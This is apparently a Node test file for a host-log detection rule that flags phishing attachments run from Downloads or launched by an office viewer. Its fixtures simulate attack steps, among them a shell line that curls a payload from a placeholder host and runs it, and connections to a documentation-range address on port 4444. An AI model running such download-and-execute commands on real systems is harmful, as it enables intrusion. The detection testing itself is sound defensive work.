import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from './an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  firesAt,
  scanLog,
  silent,
  storyOf,
  valuesOf,
} from './an0656-phishing-attachment-executed/stories.test-support.ts';

/** Which message, if any, content is said to have come with. */
const OUT = '203.0.113.66';
const FILE = '/home/clerk/Downloads/setup.run';

/** A file in Downloads that no record shows coming is run, and speaks by `port`; a message of `size` came after the log began. */
function found({ size = 550, port = 4444, writes = true, how = 'python3' } = {}): HostLog {
  const log = new HostLog({ files: writes });
  log.shell('clerk').run('/usr/bin/vi notes').write('/home/clerk/notes');
  log.wait(MINUTE);
  log.deliver({ size, unseen: true });
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  shell.run(how === '' ? FILE : `/usr/bin/${how} ${FILE}`).connect(OUT, port);
  return log;
}

test('what lay there before the log begins came with none of its messages, and is told for what it did', async () => {
  const alerts = await scanLog(found({ size: 90_000 }));
  const alert = firesAt(alerts, 'AN0321', 'medium');
  assert.equal(alerts.length, 1);
  assert.match(alert.story, /from where downloads are kept/);
  assert.deepEqual(valuesOf(alert, 'message'), []);
});

test('that it was made executable just before is told, by the words of chmod', async () => {
  const log = new HostLog();
  log.shell('clerk').run('/usr/bin/vi notes').write('/home/clerk/notes');
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  shell.run(`/bin/chmod u+x ${FILE}`).chmod(FILE, 0o744);
  shell.run(`/bin/chmod 644 ${FILE}.txt`).chmod(`${FILE}.txt`, 0o644);
  shell.run([FILE]).connect(OUT, 4444);
  const alert = firesAt(await scanLog(log), 'AN0321', 'medium');
  assert.deepEqual(
    alert.steps.filter(({ kind }) => kind === 'file.made-executable').map(({ summary }) => summary.split(' ').at(-1)),
    [FILE],
  );
});

test('where writes are not recorded, a message of the time may have brought it', async () => {
  const alerts = await scanLog(found({ size: 90_000, writes: false }));
  assert.equal(valuesOf(storyOf(alerts, 'AN0656'), 'message').length > 0, true);
  assert.equal(alerts.length, 1);
});

test('a program is in no message that has no room for one', async () => {
  const small = await scanLog(found({ size: 550, writes: false, how: '' }));
  assert.deepEqual(
    small.map(({ analytic }) => analytic),
    ['AN0321'],
  );
  const large = await scanLog(found({ size: 9000, writes: false, how: '' }));
  assert.deepEqual(
    large.map(({ analytic }) => analytic),
    ['AN0656'],
  );
});

test('what lay there and only speaks to the web is no more than worth a look', async () => {
  const alerts = await scanLog(found({ port: 443 }));
  assert.deepEqual(
    alerts.map(({ analytic, severity }) => `${analytic} ${severity}`),
    ['AN0321 informational'],
  );
  const log = new HostLog();
  log.shell('clerk').run('/usr/bin/vi notes').write('/home/clerk/notes');
  log.shell('clerk').run('/usr/bin/python3 /home/clerk/bin/own.py').connect(OUT, 4444);
  silent(await scanLog(log));
});

test('a document that had its viewer start something is what came, not what that fetched', async () => {
  const log = new HostLog();
  const message = log.deliver();
  log.wait(MINUTE);
  const path = '/home/clerk/Documents/plan.fodt';
  const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').read(message.path);
  client.write(`${path}.part`).rename(`${path}.part`, path);
  log.wait(MINUTE);
  const office = log.desktop('clerk').run(`/usr/lib/libreoffice/program/soffice.bin ${path}`).read(path);
  const shell = office.run(['/bin/sh', '-c', 'curl -s -o .cache/u http://x/u; .cache/u']);
  shell.run('/usr/bin/curl -s -o .cache/u http://x/u').connect(OUT, 80).write('.cache/u');
  shell.run('/home/clerk/.cache/u').connect(OUT, 8443);
  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
  assert.equal(alert.title, `Attachment run: ${path}`);
  assert.match(
    alert.story,
    /plan\.fodt from a message of <stranger@example\.net> makes its viewer start an interpreter/,
  );
  assert.match(
    alert.next[1] ?? '',
    /^Preserve \/home\/clerk\/Documents\/plan\.fodt, \/home\/clerk\/\.cache\/u and their/,
  );
});
